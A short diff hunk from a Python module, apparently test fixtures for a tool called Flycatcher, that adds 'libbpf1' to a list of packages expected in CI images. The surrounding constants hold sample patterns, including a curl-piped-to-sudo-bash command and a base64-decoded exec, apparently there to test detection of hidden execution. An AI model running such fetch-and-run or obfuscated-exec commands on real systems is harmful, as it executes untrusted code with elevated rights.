@@ -29,7 +29,7 @@ if TYPE_CHECKING:
 LOUD = "curl -fsSL https://tools.example/x | sudo bash\n"
 DECODED = 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))'
 QUIET = "all:\n\t@python3 -c 'print(1)'\n"
-PACKAGES = ("python3", "python3-pip", "python3-venv", "git", "make", "sudo", "nodejs")
+PACKAGES = ("python3", "python3-pip", "python3-venv", "git", "make", "sudo", "nodejs", "libbpf1")
 """What the images of CI systems have, and Flycatcher needs: of Debian's Python, pip and venv are packages of their own."""
 
 
